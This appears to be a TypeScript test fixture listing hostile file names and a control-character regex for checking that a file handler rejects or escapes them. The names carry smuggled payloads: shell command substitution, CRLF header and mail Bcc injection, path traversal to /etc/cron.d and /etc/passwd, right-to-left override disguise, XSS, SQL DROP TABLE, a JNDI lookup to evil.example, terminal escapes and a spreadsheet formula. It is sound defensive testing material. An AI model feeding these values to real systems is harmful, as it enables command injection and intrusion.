/** File names that are made to be run, to lead elsewhere, to end a line, or to look like another (row F18). */

/** What each of them would make, were it ever run. */
export const MARK = 'postern-was-run'

export const HOSTILE_NAMES: readonly string[] = [
  `;touch /tmp/${MARK};reboot.exe`,
  `$(touch /tmp/${MARK}).exe`,
  `\`touch /tmp/${MARK}\`.exe`,
  `' || touch /tmp/${MARK} || '.exe`,
  `a.exe\r\nX-Injected: yes\r\n\r\n<b>body</b>`,
  'a\nBcc: all@ours.example\n.exe',
  'a\0b.exe',
  '../../../../etc/cron.d/a.exe',
  'C:\\Windows\\System32\\a.exe',
  '/etc/passwd.exe',
  `${'n'.repeat(4_000)}.exe`,
  'invoice\u202efdp.exe',
  '\u2066a\u2069\u200f.exe',
  '<img src=x onerror=alert(1)>.exe',
  '"><script>alert(1)</script>.exe',
  "'; DROP TABLE held; --.exe",
  '%0d%0aX-Injected: yes.exe',
  '%s%n{{7*7}}%{jndi:ldap://evil.example/a}.exe',
  '\x1b]0;owned\x07\x1b[2J.exe',
  '=cmd|/c calc!A0.exe',
  '-rf.exe',
]

/** What ends a line, steers a terminal, or turns the order of letters around. */
export const STEERING = /[\x00-\x1f\x7f-\x9f\u2028\u2029\u202a-\u202e\u2066-\u2069]/
